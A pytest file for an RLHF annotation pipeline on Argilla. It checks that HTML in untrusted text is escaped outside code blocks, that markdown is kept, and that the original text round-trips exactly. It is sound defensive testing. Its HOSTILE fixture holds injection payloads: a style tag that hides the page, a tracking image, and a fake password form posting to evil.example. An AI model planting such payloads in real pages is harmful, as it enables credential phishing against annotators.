"""Untrusted text in Argilla's markdown fields: every raw tag is shown as text (outside code), markdown
is left as it is, and pull restores the exact original (round trip through the real server)."""

from __future__ import annotations

import random
import re

import pytest

from rlhf_argilla.annotation.pull import record_row
from rlhf_argilla.annotation.push import push_file
from rlhf_argilla.annotation.safe_text import escape_html, restore
from rlhf_argilla.gateway import ArgillaRest
from tests.annotation.pairs_factory import make_pairs, write_pairs

HOSTILE = (
    "Do 3 sets.\n<style>body{display:none}</style>\n<img src=https://evil.example/t.png>\n"
    '<form action=https://evil.example><input type=password name=p placeholder="Argilla password"></form>\n'
    "- **squat** & _lunge_\n> rest 90 s\n`x < y` and\n```\n<b>kept in code</b>\n```\n&lt; literal"
)


def _tags_outside_code(text: str) -> list[str]:
    prose = re.sub(r"```.*?```|`[^`]*`", "", text, flags=re.S)
    return re.findall(r"<\s*/?\s*[a-zA-Z]", prose)


def test_no_raw_tag_survives_outside_code_and_markdown_is_kept():
    shown = escape_html(HOSTILE)
    assert _tags_outside_code(shown) == []
    for kept in ("- **squat**", "_lunge_", "\n> rest 90 s", "`x < y`", "```\n<b>kept in code</b>\n```"):
        assert kept in shown
    assert restore(shown) == HOSTILE


def test_round_trip_is_exact_for_random_text():
    rng = random.Random(7)
    alphabet = ["<", "&", ";", "lt", "amp", "`", "```", "~~~", "\n", " ", "a", "<b>", "&lt;", "&amp;"]
    for _ in range(2000):
        text = "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 30)))
        assert restore(escape_html(text)) == text, text


@pytest.mark.integration
def test_hostile_response_is_stored_as_text_and_pulled_back_exactly(
    argilla_client, argilla_target, workspace, tmp_path
):
    pairs = make_pairs(2, seed=9)
    pairs[0] = pairs[0].model_copy(
        update={
            "prompt": "<form><input type=password></form> How?",
            "response_1": pairs[0].response_1.model_copy(update={"text": HOSTILE}),
        }
    )
    push_file(argilla_client, write_pairs(tmp_path, pairs), dataset="safe", workspace=workspace.name)
    with ArgillaRest(argilla_target) as rest:
        dataset = rest.require_dataset("safe", workspace.name)
        records = [item for items, _ in rest.record_pages(dataset["id"], include=()) for item in items]
    stored = next(item for item in records if item["external_id"] == pairs[0].pair_id)
    for text in stored["fields"].values():
        assert _tags_outside_code(text) == []
    row = record_row(stored)
    assert (row["prompt"], row["response_1"]) == (pairs[0].prompt, HOSTILE)
